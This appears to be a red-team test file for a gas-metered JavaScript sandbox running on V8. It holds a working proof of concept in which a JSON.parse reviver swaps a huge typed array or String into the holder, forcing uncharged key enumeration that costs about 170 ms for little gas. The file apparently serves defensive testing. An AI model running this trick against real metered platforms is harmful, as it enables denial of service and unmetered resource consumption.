// Threat: a JSON.parse reviver puts an object with many keys (a typed
// array of 524,288 items, a String of a million characters) in a holder
// before V8 reaches it; V8 lists all its keys, uncharged, before it calls
// the reviver again (red team round 32: ~170 ms a call for ~290 gas).
class JsonReviverSwapsInManyKeys {
  init() {}

  attack() {
    const many = [new Uint8Array(524288), new String('x'.repeat(2 ** 20))];
    const refused = [];
    for (const swapped of many) {
      for (let i = 0; i < 10; i++) {
        try {
          JSON.parse('{"a":1,"b":2}', function (k, v) {
            if (k === 'a') this.b = swapped;
            if (this === swapped) throw new Error('listed');
            return v;
          });
        } catch (e) {
          if (i === 0) refused.push(e.message);
        }
      }
    }
    return refused.join('; ');
  }
}

module.exports = JsonReviverSwapsInManyKeys;
